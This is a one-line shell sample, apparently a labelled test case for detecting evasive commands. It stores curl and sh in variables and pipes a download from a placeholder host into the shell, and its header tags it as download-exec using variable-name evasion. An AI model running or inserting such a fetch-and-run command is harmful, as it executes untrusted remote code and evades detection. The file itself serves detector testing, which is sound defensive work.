# evasion: command named by a variable
# grade: medium; does: download-exec
c=curl
s=sh
$c -s https://x.example/i | $s
